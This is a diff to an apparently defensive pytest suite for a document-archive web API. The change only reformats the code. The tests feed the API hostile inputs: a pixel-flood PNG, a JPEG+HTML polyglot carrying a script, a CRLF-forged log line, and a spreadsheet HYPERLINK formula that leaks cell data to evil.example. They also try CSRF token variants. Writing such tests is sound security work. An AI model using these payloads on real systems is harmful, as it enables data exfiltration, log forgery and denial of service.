@@ -77,9 +77,15 @@ def test_dangerous_office_documents_are_refused(api, unchanged, case):  # noqa: 
 
 def png_header(width: int, height: int) -> bytes:
     """A valid PNG claiming a huge canvas (a pixel flood for anything that decodes it)."""
+
     def chunk(kind, data):
-        return (struct.pack(">I", len(data)) + kind + data
-                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
+        return (
+            struct.pack(">I", len(data))
+            + kind
+            + data
+            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+        )
+
     header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
     idat = zlib.compress(b"\0" * 64)
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) \
@@ -90,8 +96,9 @@ def download(api, dossier, document):
     return api.get(f"/api/v1/dossiers/{dossier['id']}/documents/{document['id']}", "auditor")
 
 
-@pytest.mark.parametrize("case", ["polyglot jpeg+html", "pixel flood", "broken pdf",
-                                  "reserved name", "4096-byte name"])
+@pytest.mark.parametrize(
+    "case", ["polyglot jpeg+html", "pixel flood", "broken pdf", "reserved name", "4096-byte name"]
+)
 def test_accepted_oddities_are_stored_and_served_inertly(api, case):
     content = {
         "polyglot jpeg+html": jpeg() + b"<html><script>alert(1)</script></html>",
@@ -175,7 +182,7 @@ def login(app, username):
 
 def test_log_and_csv_injection_are_neutralised(api, app):
     forged = 'x\r\n99,2026-01-01,admin,admin,export,ok,,,,1.2.3.4,"'
-    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     for name in (forged, formula):
         app.post_json("/api/v1/auth/token", {"username": name, "password": "nope-nope"},
                       status=401)  # fmt: skip
@@ -239,8 +246,12 @@ def test_csrf_variants_are_refused_and_logged(app, api):
     other_token = re.search(r'name="csrf_token" value="([^"]+)"',
                             other.get("/retention").text)[1]  # fmt: skip
     for own, foreign in ((token, other_token), (other_token, token)):
-        for variant in ({}, {"csrf_token": "forged"}, {"csrf_token": foreign},
-                        {"csrf_token": own[:-1] + ("x" if own[-1] != "x" else "y")}):
+        for variant in (
+            {},
+            {"csrf_token": "forged"},
+            {"csrf_token": foreign},
+            {"csrf_token": own[:-1] + ("x" if own[-1] != "x" else "y")},
+        ):
             browser = archivist if own == token else other
             url = "/dossiers/new" if own == token else "/retention"
             browser.post(url, {"action": "run", "dry_run": "on", **variant}, status=400)
